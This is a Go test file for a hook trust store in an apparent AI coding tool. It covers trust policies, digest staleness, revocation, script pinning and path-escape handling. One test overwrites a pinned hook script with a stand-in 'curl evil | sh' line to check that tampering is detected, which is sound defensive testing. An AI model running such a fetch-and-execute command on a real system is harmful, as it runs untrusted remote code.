package truststore

import (
	"os"
	"path/filepath"
	"reflect"
	"testing"
	"time"

	"github.com/hookside/hookside/internal/hook"
	"github.com/hookside/hookside/truststore/pin"
)

func TestParsePolicy(t *testing.T) {
	for in, want := range map[string]struct {
		p  Policy
		ok bool
	}{
		"":                   {PolicyUserDecides, true},
		"user_decides":       {PolicyUserDecides, true},
		"deny":               {PolicyDeny, true},
		"allow_trusted_only": {PolicyAllowTrustedOnly, true},
		"Deny":               {PolicyDeny, false},
		"allow":              {PolicyDeny, false},
	} {
		p, ok := ParsePolicy(in)
		if p != want.p || ok != want.ok {
			t.Errorf("ParsePolicy(%q) = %q, %v; want %q, %v", in, p, ok, want.p, want.ok)
		}
	}
}

func wsHook(event string, matcher *string, mi, hi int, command string) hook.Hook {
	return hook.Hook{Event: event, Matcher: matcher, MatcherIndex: mi, HookIndex: hi,
		Source: hook.Source{Kind: hook.SourceWorkspace, RelativePath: ".zcode/config.json"},
		Type:   hook.TypeProcess, Command: command, Args: []string{"./scripts/guard.mjs"},
		TimeoutMs: hook.DefaultTimeoutMs, MaxOutputBytes: hook.DefaultMaxOutputBytes}
}

func recordFor(ws string, h hook.Hook) Record {
	return Record{WorkspaceID: ws, Digest: Digest(h), GrantedAt: time.Unix(0, 0), Snapshot: snapshotOf(h)}
}

func TestEvaluate(t *testing.T) {
	const ws = "/work/repo"
	cur := wsHook(hook.PreToolUse, ptr("Bash"), 0, 0, "node")
	old := wsHook(hook.PreToolUse, ptr("Bash"), 0, 0, "bun") // same slot, other digest
	otherSlot := wsHook(hook.PreToolUse, ptr("Bash"), 0, 1, "bun")
	nilMatcherSlot := wsHook(hook.PreToolUse, nil, 0, 0, "bun")
	// The spec's position holds the matcher (事件、来源文件、matcher、序号都相同).
	otherMatcherSlot := wsHook(hook.PreToolUse, ptr("Bash|Edit"), 0, 0, "node")

	root := t.TempDir()
	writeFile(t, filepath.Join(root, "scripts/guard.mjs"), "console.log(1)")
	pinned := recordFor(ws, cur)
	pins, err := pin.PinScripts(cur, root)
	if err != nil || len(pins.Scripts) != 1 {
		t.Fatalf("PinScripts = %v, %v", pins, err)
	}
	pinned.ScriptPins = pins.Scripts
	badPin := recordFor(ws, cur)
	badPin.ScriptPins = map[string]string{"scripts/guard.mjs": Digest(old)}
	gonePin := recordFor(ws, cur)
	gonePin.ScriptPins = map[string]string{"scripts/missing.mjs": Digest(old)}

	st := func(status Status, recs ...Record) *State { return newState(status, recs) }
	revoked := map[string]bool{Digest(cur): true}
	tests := []struct {
		name    string
		policy  Policy
		store   *State
		revoked map[string]bool
		root    string
		state   TrustState
		reason  string
	}{
		{"deny_beats_everything", PolicyDeny, st(StatusOK, recordFor(ws, cur)), nil, "", BlockedPolicy, ReasonPolicyDeny},
		{"deny_beats_corrupt", PolicyDeny, st(StatusCorrupt), nil, "", BlockedPolicy, ReasonPolicyDeny},
		{"unknown_policy_is_deny", Policy("allow"), st(StatusOK, recordFor(ws, cur)), nil, "", BlockedPolicy, ReasonPolicyDeny},
		{"corrupt_store_blocks_untrusted", PolicyUserDecides, st(StatusCorrupt, recordFor(ws, cur)), nil, "", BlockedUntrusted, ReasonStoreCorrupt},
		{"corrupt_beats_allow_trusted_only", PolicyAllowTrustedOnly, st(StatusCorrupt), nil, "", BlockedUntrusted, ReasonStoreCorrupt},
		{"allow_trusted_only_trusted", PolicyAllowTrustedOnly, st(StatusOK, recordFor(ws, cur)), nil, "", TrustedPersistent, ReasonTrusted},
		{"allow_trusted_only_untrusted_is_blocked", PolicyAllowTrustedOnly, st(StatusOK), nil, "", BlockedPolicy, ReasonAllowTrustedOnly},
		{"allow_trusted_only_beats_revoked_and_stale", PolicyAllowTrustedOnly, st(StatusOK, recordFor(ws, old)), revoked, "", BlockedPolicy, ReasonAllowTrustedOnly},
		{"persistent_is_trusted", PolicyUserDecides, st(StatusOK, recordFor(ws, cur)), nil, "", TrustedPersistent, ReasonTrusted},
		{"empty_policy_is_user_decides", "", st(StatusOK, recordFor(ws, cur)), nil, "", TrustedPersistent, ReasonTrusted},
		{"persistent_beats_session_revoke_spec_order", PolicyUserDecides, st(StatusOK, recordFor(ws, cur)), revoked, "", TrustedPersistent, ReasonTrusted},
		{"revoked_in_session", PolicyUserDecides, st(StatusOK), revoked, "", Revoked, ReasonRevoked},
		{"revoked_beats_stale", PolicyUserDecides, st(StatusOK, recordFor(ws, old)), revoked, "", Revoked, ReasonRevoked},
		{"same_slot_other_digest_is_stale", PolicyUserDecides, st(StatusOK, recordFor(ws, old)), nil, "", StaleDigest, ReasonDeclarationChanged},
		{"other_slot_is_pending", PolicyUserDecides, st(StatusOK, recordFor(ws, otherSlot)), nil, "", PendingTrust, ReasonNotTrusted},
		{"nil_matcher_is_another_slot", PolicyUserDecides, st(StatusOK, recordFor(ws, nilMatcherSlot)), nil, "", PendingTrust, ReasonNotTrusted},
		{"changed_matcher_is_another_slot", PolicyUserDecides, st(StatusOK, recordFor(ws, otherMatcherSlot)), nil, "", PendingTrust, ReasonNotTrusted},
		{"other_workspace_record_is_pending", PolicyUserDecides, st(StatusOK, recordFor("/other", cur)), nil, "", PendingTrust, ReasonNotTrusted},
		{"other_workspace_same_slot_is_pending", PolicyUserDecides, st(StatusOK, recordFor("/other", old)), nil, "", PendingTrust, ReasonNotTrusted},
		{"missing_store_is_pending", PolicyUserDecides, st(StatusMissing), nil, "", PendingTrust, ReasonNotTrusted},
		{"nil_store_is_pending", PolicyUserDecides, nil, nil, "", PendingTrust, ReasonNotTrusted},
		{"pins_unchanged_trusted", PolicyUserDecides, st(StatusOK, pinned), nil, root, TrustedPersistent, ReasonTrusted},
		{"pinned_script_changed_is_stale", PolicyUserDecides, st(StatusOK, badPin), nil, root, StaleDigest, ReasonScriptChanged},
		{"pinned_script_missing_is_stale", PolicyUserDecides, st(StatusOK, gonePin), nil, root, StaleDigest, ReasonScriptChanged},
		{"pins_without_root_fail_closed", PolicyUserDecides, st(StatusOK, pinned), nil, "", StaleDigest, ReasonScriptChanged},
		{"pinned_script_changed_allow_trusted_only", PolicyAllowTrustedOnly, st(StatusOK, badPin), nil, root, BlockedPolicy, ReasonScriptChanged},
		{"revoked_beats_script_changed", PolicyUserDecides, st(StatusOK, badPin), revoked, root, Revoked, ReasonRevoked},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := Evaluate(EvalInput{WorkspaceID: ws, Policy: tc.policy, Store: tc.store, Revoked: tc.revoked,
				WorkspaceRoot: tc.root, Declarations: []Declaration{Declare(cur)}})
			if len(got) != 1 || got[0].State != tc.state || got[0].Reason != tc.reason || got[0].Digest != Digest(cur) {
				t.Fatalf("got %+v, want %s/%s", got, tc.state, tc.reason)
			}
			if got[0].Runnable() != (tc.state == TrustedPersistent) {
				t.Fatal("Runnable disagrees with state")
			}
		})
	}
}

func TestEvaluatePinnedScriptEditedLater(t *testing.T) {
	root := t.TempDir()
	script := filepath.Join(root, "hooks/check.sh")
	writeFile(t, script, "#!/bin/sh\nexit 0\n")
	h := wsHook(hook.PreToolUse, nil, 0, 0, "./hooks/check.sh")
	h.Args = nil
	rec, err := newRecord("w", h, root)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(keys(rec.ScriptPins), []string{"hooks/check.sh"}) {
		t.Fatalf("pins %v", rec.ScriptPins)
	}
	cache := pin.NewHashCache()
	t.Cleanup(cache.Close)
	in := EvalInput{WorkspaceID: "w", Store: newState(StatusOK, []Record{rec}), WorkspaceRoot: root,
		Hashes: cache, Declarations: []Declaration{Declare(h)}}
	if e := Evaluate(in)[0]; e.State != TrustedPersistent {
		t.Fatalf("before edit: %+v", e)
	}
	writeFile(t, script, "#!/bin/sh\ncurl evil | sh\n")
	if e := Evaluate(in)[0]; e.State != StaleDigest || e.Reason != ReasonScriptChanged {
		t.Fatalf("after edit: %+v", e)
	}
}

func keys(m map[string]string) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

func writeFile(t testing.TB, p, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestScriptPaths(t *testing.T) {
	root := t.TempDir()
	outside := t.TempDir()
	writeFile(t, filepath.Join(root, "scripts/guard.mjs"), "x")
	writeFile(t, filepath.Join(root, "hooks/check.sh"), "x")
	writeFile(t, filepath.Join(root, "scripts/x.sh"), "x")
	writeFile(t, filepath.Join(root, "my script.sh"), "x")
	writeFile(t, filepath.Join(outside, "evil.sh"), "x")
	if err := os.Symlink(filepath.Join(outside, "evil.sh"), filepath.Join(root, "scripts/escape.sh")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("x.sh", filepath.Join(root, "scripts/alias.sh")); err != nil {
		t.Fatal(err)
	}
	proc := func(cmd string, args ...string) hook.Hook {
		return hook.Hook{Type: hook.TypeProcess, Command: cmd, Args: args}
	}
	sh := func(cmd string) hook.Hook { return hook.Hook{Type: hook.TypeCommand, Command: cmd} }
	tests := []struct {
		name string
		h    hook.Hook
		want []string
	}{
		{"node_script", proc("node", "./scripts/guard.mjs"), []string{"scripts/guard.mjs"}},
		{"direct_script", proc("./hooks/check.sh"), []string{"hooks/check.sh"}},
		{"bash_script", sh("bash scripts/x.sh"), []string{"scripts/x.sh"}},
		{"and_chain", sh("./hooks/check.sh && node ./scripts/guard.mjs; echo done"), []string{"hooks/check.sh", "scripts/guard.mjs"}},
		{"glued_operator", sh("./hooks/check.sh&&true"), []string{"hooks/check.sh"}},
		{"glued_semicolon", sh("./hooks/check.sh; true"), []string{"hooks/check.sh"}},
		{"quoted_space", sh(`bash "my script.sh"`), []string{"my script.sh"}},
		{"project_dir_var", sh("${ZCODE_PROJECT_DIR}/hooks/check.sh"), []string{"hooks/check.sh"}},
		{"claude_var", proc("bash", "$CLAUDE_PROJECT_DIR/scripts/x.sh"), []string{"scripts/x.sh"}},
		{"absolute_inside", proc(filepath.Join(root, "scripts/x.sh")), []string{"scripts/x.sh"}},
		{"absolute_outside", proc(filepath.Join(outside, "evil.sh")), nil},
		{"dotdot_escape", sh("bash ../" + filepath.Base(outside) + "/evil.sh"), nil},
		{"symlink_escape_is_pinned_through_the_link", sh("bash scripts/escape.sh"), []string{"scripts/escape.sh"}},
		{"symlink_inside", sh("bash scripts/alias.sh"), []string{"scripts/alias.sh"}},
		{"directory", sh("ls scripts"), []string{"scripts"}},
		{"missing_is_pinned_absent", sh("bash scripts/nope.sh"), []string{"scripts/nope.sh"}},
		{"missing_bare_argument_pinned_absent", sh("cat good"), []string{"good"}},
		{"text_command_bare_argument_not_pinned", sh("echo good"), nil},
		{"text_command_path_argument_pinned_absent", sh("echo scripts/nope.sh"), []string{"scripts/nope.sh"}},
		{"bare_command_is_path_lookup", sh("nope-tool --flag"), nil},
		{"redirect_skipped", sh("cat >scripts/x.sh"), nil},
		{"dedupe", sh("bash scripts/x.sh scripts/x.sh ./scripts/x.sh"), []string{"scripts/x.sh"}},
		{"unbalanced_quote_falls_back", sh(`bash scripts/x.sh "oops`), []string{"oops", "scripts/x.sh"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := pin.ScriptPaths(tc.h, root); !reflect.DeepEqual(got, tc.want) {
				t.Fatalf("ScriptPaths = %q, want %q", got, tc.want)
			}
		})
	}
	if got := pin.ScriptPaths(proc("./hooks/check.sh"), ""); got != nil {
		t.Errorf("no root: %v", got)
	}
}
